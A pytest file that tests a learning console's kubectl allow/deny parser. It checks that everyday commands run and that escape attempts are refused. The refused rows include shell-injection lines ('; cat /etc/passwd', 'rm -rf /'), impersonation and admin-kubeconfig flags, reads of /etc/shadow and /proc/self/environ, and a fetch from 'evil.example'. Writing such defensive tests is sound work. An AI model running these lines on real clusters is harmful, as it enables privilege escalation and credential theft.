"""The console's allow/deny table: every line a learner might type, and what the console does with it.

Each row is (line, expected): `None` when the line runs, or the refusal's category. Escape
attempts (other credentials, other clusters, other namespaces, the server's files, a shell)
are the point of most rows.
"""

from __future__ import annotations

import pytest

from challenges.console.parser import Refused, Scope, parse, split
from challenges.console.refusals import Category

NS = "breakfix-7"
SCOPE = Scope(namespace=NS)
KIND_SCOPE = Scope(namespace=NS, cluster_wide=True)

SHELL = Category.SHELL
OTHER = Category.OTHER_PROGRAMS
PLUGIN = Category.PLUGINS
IDENTITY = Category.IDENTITY
TARGET = Category.TARGET
NAMESPACE = Category.NAMESPACE
FILES = Category.LOCAL_FILES
CONNECTION = Category.CONNECTION
INTERACTIVE = Category.INTERACTIVE
CHARACTERS = Category.CHARACTERS
COMMANDS = Category.COMMANDS
FLAGS = Category.FLAGS

TABLE: list[tuple[str, Category | None]] = [
    # --- what learners do all day ----------------------------------------------------------------
    ("kubectl get endpoints frontend", None),
    ("get pods", None),
    ("k get pods -o wide", None),
    ("kubectl describe service frontend", None),
    ("kubectl get pods --show-labels", None),
    ("kubectl get endpointslices -l kubernetes.io/service-name=frontend", None),
    ("kubectl logs deploy/frontend --tail=20", None),
    ("kubectl logs -p frontend-abc -c nginx", None),
    ("kubectl get pods -o jsonpath='{.items[*].metadata.labels}'", None),
    ('kubectl get pods -o "jsonpath={.items[0].metadata.name}"', None),
    ("kubectl get pods -o custom-columns=NAME:.metadata.name,IP:.status.podIP", None),
    ("kubectl get pods -l 'app in (frontend, web)'", None),
    ("kubectl get pods -l app!=frontend", None),
    ('kubectl patch service frontend -p \'{"spec":{"selector":{"app":"frontend"}}}\'', None),
    ('kubectl patch svc frontend --type=json -p \'[{"op":"remove","path":"/spec/selector/x"}]\'', None),
    ("kubectl label pod web-1 tier=web --overwrite", None),
    ("kubectl scale deployment frontend --replicas=2", None),
    ("kubectl rollout status deployment/frontend", None),
    ("kubectl expose deployment webapp --port=80 --target-port=8080 --name=webapp", None),
    ("kubectl create service clusterip webapp --tcp=80:8080", None),
    ("kubectl create configmap settings --from-literal=mode=strict", None),
    ("kubectl delete networkpolicy allow-everything", None),
    ("kubectl exec web-1 -- cat /etc/nginx/nginx.conf", None),
    ("kubectl exec web-1 -c nginx -- ls -la /", None),
    ("kubectl run probe --image=busybox --restart=Never -- wget -qO- http://webapp", None),
    ("kubectl auth can-i create services", None),
    ("kubectl explain networkpolicy.spec.ingress", None),
    ("kubectl api-resources --namespaced=true", None),
    ("kubectl events --for=pod/web-1", None),
    ("kubectl get pods -n breakfix-7", None),
    (f"kubectl get pods --namespace={NS}", None),
    ("kubectl -v=6 get pods", None),
    ("kubectl get pods '$HOME'", None),
    ("kubectl", None),
    ("kubectl help exec", None),
    ("kubectl version", None),
    # --- shell syntax ----------------------------------------------------------------------------
    ("kubectl get pods | grep frontend", SHELL),
    ("kubectl get pods > /tmp/pods.txt", SHELL),
    ("kubectl apply < /etc/passwd", SHELL),
    ("kubectl get pods; cat /etc/passwd", SHELL),
    ("kubectl get pods && rm -rf /", SHELL),
    ("kubectl get pods || true", SHELL),
    ("kubectl get pods &", SHELL),
    ("kubectl get pods $(cat /etc/passwd)", SHELL),
    ("kubectl get pods `id`", SHELL),
    ('kubectl get pods "$(id)"', SHELL),
    ('kubectl get pods "`id`"', SHELL),
    ("kubectl get secret $TOKEN", SHELL),
    ("kubectl get secret ${HOME}", SHELL),
    ("kubectl get pods 2>&1", SHELL),
    ("kubectl get pods 'unclosed", SHELL),
    ("kubectl get pods\nrm -rf /", SHELL),
    ("kubectl get pods -l app in (a,b)", SHELL),
    ("", SHELL),
    # --- other programs and plugins --------------------------------------------------------------
    ("ls -la /", OTHER),
    ("bash -c 'kubectl get pods'", OTHER),
    ("sudo kubectl get pods", OTHER),
    ("/usr/bin/kubectl get pods", OTHER),
    ("cat /etc/passwd", OTHER),
    ("kubectl krew install sniff", PLUGIN),
    ("kubectl plugin list", PLUGIN),
    ("kubectl ns kube-system", PLUGIN),
    ("kubectl kubectl get pods", PLUGIN),
    ("kubectl -n breakfix-7 whoami-plugin", PLUGIN),
    # --- identity ------------------------------------------------------------------------------
    ("kubectl get pods --as=system:admin", IDENTITY),
    ("kubectl get pods --as system:admin", IDENTITY),
    ("kubectl --as-group=system:masters get secrets", IDENTITY),
    ("kubectl get pods --as-uid=0", IDENTITY),
    ("kubectl get pods --token=eyJhbGciOi", IDENTITY),
    ("kubectl get pods --user=admin", IDENTITY),
    ("kubectl get pods --username=admin --password=admin", IDENTITY),
    ("kubectl get pods --client-certificate=/etc/kubernetes/pki/admin.crt", IDENTITY),
    ("kubectl get pods --client-key=/etc/kubernetes/pki/admin.key", IDENTITY),
    ("kubectl auth can-i '*' '*' --as=system:serviceaccount:kube-system:default", IDENTITY),
    # --- target: another cluster, or the kubeconfig itself ---------------------------------------
    ("kubectl --kubeconfig=/root/.kube/config get pods", TARGET),
    ("kubectl get pods --kubeconfig /etc/kubernetes/admin.conf", TARGET),
    ("kubectl -s https://10.0.0.1:6443 get pods", TARGET),
    ("kubectl get pods --server=https://kubernetes.default", TARGET),
    ("kubectl get pods --context=admin@platform", TARGET),
    ("kubectl get pods --cluster=platform", TARGET),
    ("kubectl get pods --insecure-skip-tls-verify", TARGET),
    ("kubectl get pods --certificate-authority=/tmp/ca.crt", TARGET),
    ("kubectl get pods --tls-server-name=kubernetes", TARGET),
    ("kubectl config view --raw", TARGET),
    ("kubectl config use-context platform", TARGET),
    # kubectl reads the next word as --selector's value; a value that looks like a flag is refused.
    ("kubectl get pods --selector --kubeconfig=/etc/kubernetes/admin.conf", FLAGS),
    # After `--` kubectl reads names, not flags; `get` takes no command after it.
    ("kubectl get pods -- --server=https://10.0.0.1", FLAGS),
    # A value-taking flag before the verb: kubectl runs `config`, with `get` as the value.
    ("kubectl --cache_dir get config view --raw", TARGET),
    # `kube_config` is `kube-config` to kubectl, which has no such flag.
    ("kubectl --kube_config=/etc/kubernetes/admin.conf get pods", FLAGS),
    # --- other namespaces (namespace backend) -----------------------------------------------------
    ("kubectl get pods -n kube-system", NAMESPACE),
    ("kubectl get secrets --namespace=breakfix-8", NAMESPACE),
    ("kubectl get secrets --namespace breakfix-8", NAMESPACE),
    ("kubectl -nkube-system get pods", NAMESPACE),
    ("kubectl -n=default get pods", NAMESPACE),
    ("kubectl get pods -A", NAMESPACE),
    ("kubectl get pods --all-namespaces", NAMESPACE),
    ("kubectl get pods -Ao wide", NAMESPACE),
    # --- files on the Breakfix server ------------------------------------------------------------
    ("kubectl apply -f /etc/passwd", FILES),
    ("kubectl apply -f service.yaml", FILES),
    ("kubectl apply -f https://evil.example/pwn.yaml", FILES),
    ("kubectl apply -f -", FILES),
    ("kubectl create --filename=/root/.kube/config", FILES),
    ("kubectl delete -f=/tmp/x.yaml", FILES),
    ("kubectl apply -k ./overlays/dev", FILES),
    ("kubectl apply --kustomize=https://github.com/x/y", FILES),
    ("kubectl kustomize .", FILES),
    ("kubectl cp web-1:/etc/passwd /tmp/passwd", FILES),
    ("kubectl cp /etc/passwd web-1:/tmp/passwd", FILES),
    ("kubectl create secret generic loot --from-file=/etc/shadow", FILES),
    ("kubectl create configmap loot --from-env-file=/proc/self/environ", FILES),
    ("kubectl patch deploy frontend --patch-file=/etc/passwd", FILES),
    ("kubectl get pods -o go-template-file=/etc/passwd", FILES),
    ("kubectl get pods -ojsonpath-file=/etc/passwd", FILES),
    ("kubectl get pods --output=templatefile --template=/etc/passwd", FILES),
    ("kubectl get pods --cache-dir=/tmp/cache", FILES),
    ("kubectl get pods --profile=cpu --profile-output=/tmp/x", FILES),
    ("kubectl get pods --kuberc=/tmp/kuberc", FILES),
    ("kubectl cluster-info dump --output-directory=/tmp/dump", FILES),
    ("kubectl get pods --some-future-file=/etc/passwd", FILES),
    ("kubectl alpha kuberc view", FILES),
    ("kubectl apply set-last-applied -f x.yaml", FILES),
    ("kubectl create secret tls web --cert=/etc/ssl/server.crt --key=/etc/ssl/server.key", FILES),
    # --- connections that stay open --------------------------------------------------------------
    ("kubectl proxy --port=8001", CONNECTION),
    ("kubectl port-forward svc/frontend 8080:80", CONNECTION),
    ("kubectl attach web-1", CONNECTION),
    # --- commands that watch: they stream, up to the console's caps, and Ctrl-C stops them ---------
    ("kubectl logs -f web-1", None),
    ("kubectl logs --follow deploy/frontend", None),
    ("kubectl logs -fp web-1", None),
    ("kubectl get pods -w", None),
    ("kubectl get pods --watch-only", None),
    ("kubectl events --watch", None),
    # --- interactive ---------------------------------------------------------------------------
    ("kubectl exec -it web-1 -- sh", INTERACTIVE),
    ("kubectl exec -ti web-1 -- sh", INTERACTIVE),
    ("kubectl exec --stdin --tty web-1 -- sh", INTERACTIVE),
    ("kubectl exec -i web-1 -- sh", INTERACTIVE),
    ("kubectl exec web-1 -t -- sh", INTERACTIVE),
    ("kubectl run shell --image=busybox -it --rm -- sh", INTERACTIVE),
    ("kubectl run shell --image=busybox --attach", INTERACTIVE),
    ("kubectl edit service frontend", INTERACTIVE),
    ("kubectl apply edit-last-applied deploy/frontend", INTERACTIVE),
    ("kubectl debug web-1 -it --image=busybox", INTERACTIVE),
    ("kubectl debug node/worker-1 --image=busybox", INTERACTIVE),
    ("kubectl delete pods --all -i", INTERACTIVE),
    # --- characters a terminal does not send ------------------------------------------------------
    ("kubectl get pods\x00", CHARACTERS),
    ("kubectl get pods \x1b[31m", CHARACTERS),
    ("kubectl get pods \u2014all-namespaces", CHARACTERS),
    ("kubectl get\u00a0pods", CHARACTERS),
    ("kubectl get pods \u202e", CHARACTERS),
    # --- kubectl commands and flags the console does not offer -------------------------------------
    ("kubectl auth reconcile", COMMANDS),
    ("kubectl __complete get ''", COMMANDS),
    ("kubectl get pods --bogus", FLAGS),
    ("kubectl get pods -o kyaml", FLAGS),
    ("kubectl -- get pods", FLAGS),
    ("kubectl logs web-1 --insecure-skip-tls-verify-backend", TARGET),
    ("kubectl get pods -n", FLAGS),
    # --- more of what learners do, read the way kubectl reads it -----------------------------------
    ("kubectl get pods -ojson", None),
    ("kubectl get pods -o=yaml", None),
    ("kubectl get pods --output json", None),
    ("kubectl get pods -o JSON", None),
    ("kubectl get_pods", PLUGIN),
    ("kubectl get pods --show_labels", None),
    ("kubectl get pods --all_namespaces=false", NAMESPACE),
    ("kubectl rollout status deploy/frontend --watch=false --timeout=20s", None),
    (
        "kubectl create rolebinding view-web --clusterrole=view --user=bob --serviceaccount=breakfix-7:web",
        None,
    ),
    ("kubectl set subject rolebinding view-web --group=devs", None),
    ("kubectl logs web-1 --tail -1", None),
    ("kubectl create deployment web --image=nginx -- nginx -g 'daemon off;'", None),
    ("kubectl delete pod web-1 --dry-run=server", None),
    ("kubectl -v 6 get pods", None),
    ("kubectl get pods -h", None),
    ("kubectl create secret generic db --from-literal=password=s3cret", None),
    ("kubectl create foo bar", PLUGIN),
]


def _category(line: str, scope: Scope = SCOPE) -> Category | None:
    try:
        parse(line, scope=scope)
    except Refused as refused:
        return refused.refusal.category
    return None


# What learners type while repairing a challenge: all of it runs.
EVERYDAY = [
    'kubectl get pods -o jsonpath="{.items[*].status.podIP}"',
    "kubectl set image deployment/frontend nginx=nginx:1.28-alpine --dry-run=server",
    "kubectl label pod web-1 tier-",
    "kubectl rollout restart deploy/frontend",
    'kubectl create ingress web --rule="example.com/path=web:80"',
    "kubectl create quota q --hard=pods=3",
    "kubectl top pods",
    "kubectl logs deploy/frontend --all-containers",
    "kubectl get events --sort-by=.lastTimestamp",
    "kubectl get all",
    "kubectl api-resources --namespaced=true -o name",
    "kubectl create secret generic x --from-literal=a=b -o yaml --dry-run=client",
    "kubectl scale --replicas=3 deploy/web",
    "kubectl autoscale deploy web --min=1 --max=3 --cpu-percent=80",
    "kubectl expose deploy web --port=80 --target-port=8080 --type=NodePort",
    "kubectl delete pod web-1 --grace-period=0 --force",
    "kubectl get pods --field-selector=status.phase!=Running",
    "kubectl get pod web-1 -o go-template='{{.status.phase}}'",
    "kubectl wait --for=condition=available deploy/web --timeout=30s",
    "kubectl apply view-last-applied deploy/web",
    'kubectl patch deploy web --type=merge -p \'{"spec":{"replicas":2}}\'',
    "kubectl rollout history deploy/web --revision=2",
    "kubectl rollout undo deploy/web --to-revision=1",
    "kubectl create job test --from=cronjob/backup",
    'kubectl create cronjob x --image=busybox --schedule="*/1 * * * *"',
    "kubectl set resources deploy web --limits=cpu=200m --requests=memory=64Mi",
    "kubectl auth can-i --list --namespace=breakfix-7",
    "kubectl describe nodes",
    "kubectl get pods -o=custom-columns=NAME:.metadata.name --no-headers",
    "kubectl logs web-1 --since=1h --timestamps",
    "kubectl exec web-1 -c nginx -- nginx -T",
    "kubectl exec deploy/web -- ls",
    "kubectl create configmap app --from-literal=a=b --from-literal=c=d",
    "kubectl create secret docker-registry reg --docker-server=x --docker-username=u --docker-password=p",
    "kubectl create sa web",
    "kubectl create role r --verb=get --resource=pods",
    "kubectl create rolebinding rb --role=r --serviceaccount=breakfix-7:web",
    "kubectl set serviceaccount deploy web web",
    "kubectl get ep",
    "kubectl get pods --selector app=web,tier=frontend",
    "kubectl create deploy web --image=nginx --replicas=2 --port=80",
    "kubectl create svc clusterip web --tcp=80:8080",
    "kubectl get netpol",
    "kubectl describe networkpolicy deny-all",
    "kubectl get pods -n breakfix-7 -o yaml",
    "kubectl taint nodes kwok-node-0 key=value:NoSchedule",
    "kubectl run tmp --image=busybox --restart=Never --command -- sleep 10",
    "kubectl run web --image=nginx --port=80 --labels=app=web --expose",
    "kubectl annotate deploy web note=x --overwrite",
    "kubectl create pdb web --selector=app=web --min-available=1",
    "kubectl create priorityclass high --value=1000",
    "kubectl set env deploy/web MODE=strict",
    "kubectl set env deploy/web --list",
    "kubectl version",
    "kubectl cluster-info",
    "kubectl explain deploy.spec --recursive",
    "kubectl auth whoami -o yaml",
    "kubectl get pods --request-timeout=10s",
]


@pytest.mark.parametrize("line", EVERYDAY)
def test_everyday_lines_run(line: str) -> None:
    assert _category(line) is None


def test_the_table_has_at_least_fifty_rows_of_each_kind_together() -> None:
    assert len(TABLE) >= 50
    assert sum(1 for _, expected in TABLE if expected is None) >= 20
    assert sum(1 for _, expected in TABLE if expected is not None) >= 50


@pytest.mark.parametrize(("line", "expected"), TABLE, ids=[repr(line)[:70] for line, _ in TABLE])
def test_the_console_table(line: str, expected: Category | None) -> None:
    assert _category(line) == expected


def test_every_category_is_in_the_table() -> None:
    refused = {expected for _, expected in TABLE if expected is not None}
    assert refused | {Category.TOO_LONG} == set(Category)


def test_it_refuses_an_overlong_line() -> None:
    assert _category("kubectl get pods " + "x" * 3000) == Category.TOO_LONG


@pytest.mark.parametrize(
    "line",
    ["kubectl get pods -n kube-system", "kubectl get pods -A", "kubectl get secrets --all-namespaces"],
)
def test_a_cluster_of_ones_own_may_look_at_other_namespaces(line: str) -> None:
    assert _category(line, KIND_SCOPE) is None


def test_a_cluster_of_ones_own_still_refuses_other_credentials() -> None:
    assert _category("kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf", KIND_SCOPE) == TARGET


def test_the_refusal_says_what_to_do_instead() -> None:
    with pytest.raises(Refused) as caught:
        parse("kubectl apply -f service.yaml", scope=SCOPE)
    assert "editor" in caught.value.refusal.message

    with pytest.raises(Refused) as caught:
        parse("kubectl get pods -n kube-system", scope=SCOPE)
    assert NS in caught.value.refusal.message


def test_it_drops_the_leading_kubectl_and_keeps_quoted_arguments_whole() -> None:
    command = parse("kubectl get pods -l 'app in (a, b)' -o name", scope=SCOPE)
    assert command.args == ["get", "pods", "-l", "app in (a, b)", "-o", "name"]
    assert command.verb == "get"


def test_it_finds_the_verb_after_global_flags() -> None:
    command = parse(f"-n {NS} get pods", scope=SCOPE)
    assert command.verb == "get"
    assert command.namespace_given


def test_an_execs_container_command_is_not_read_as_kubectl_flags() -> None:
    command = parse("kubectl exec web-1 -- env --kubeconfig=/x -it", scope=SCOPE)
    assert command.args[-3:] == ["env", "--kubeconfig=/x", "-it"]
    assert command.container_command == ("env", "--kubeconfig=/x", "-it")


def test_it_finds_the_command_path_the_way_cobra_does() -> None:
    assert parse("kubectl -n breakfix-7 rollout status deploy/web", scope=SCOPE).path == ("rollout", "status")
    assert parse("k create cm x --from-literal=a=b", scope=SCOPE).path == ("create", "configmap")
    # `create` has no --image: cobra takes `web` as its value, and finds `create deployment`.
    assert parse("kubectl create --image web deployment x", scope=SCOPE).path == ("create", "deployment")


def test_a_value_taking_flag_before_the_verb_takes_the_verb() -> None:
    with pytest.raises(Refused) as caught:
        parse("kubectl --cache_dir get proxy --www=/", scope=SCOPE)
    assert "kubectl proxy" in caught.value.refusal.message


def test_all_namespaces_false_is_not_all_namespaces_on_a_cluster_of_ones_own() -> None:
    assert not parse("kubectl get pods -A=false", scope=KIND_SCOPE).all_namespaces
    assert parse("kubectl get pods --all_namespaces", scope=KIND_SCOPE).all_namespaces


def test_a_refused_flag_is_named_the_way_it_was_typed() -> None:
    with pytest.raises(Refused) as caught:
        parse("kubectl create secret generic x --from_env_file=/proc/1/environ", scope=SCOPE)
    assert "`--from_env_file`" in caught.value.refusal.message


@pytest.mark.parametrize(
    ("line", "tokens"),
    [
        (r"a\ b 'c d' \"e\"", ["a b", "c d", '"e"']),
        ("''", [""]),
        ('"x \\$y"', ["x $y"]),
        ("-o 'jsonpath={$.items}'", ["-o", "jsonpath={$.items}"]),
        ('"{$.items}"', ["{$.items}"]),
        ("a|b ignored", None),
    ],
)
def test_it_splits_words_like_a_shell(line: str, tokens: list[str] | None) -> None:
    if tokens is None:
        with pytest.raises(Refused):
            split(line)
    else:
        assert split(line) == tokens
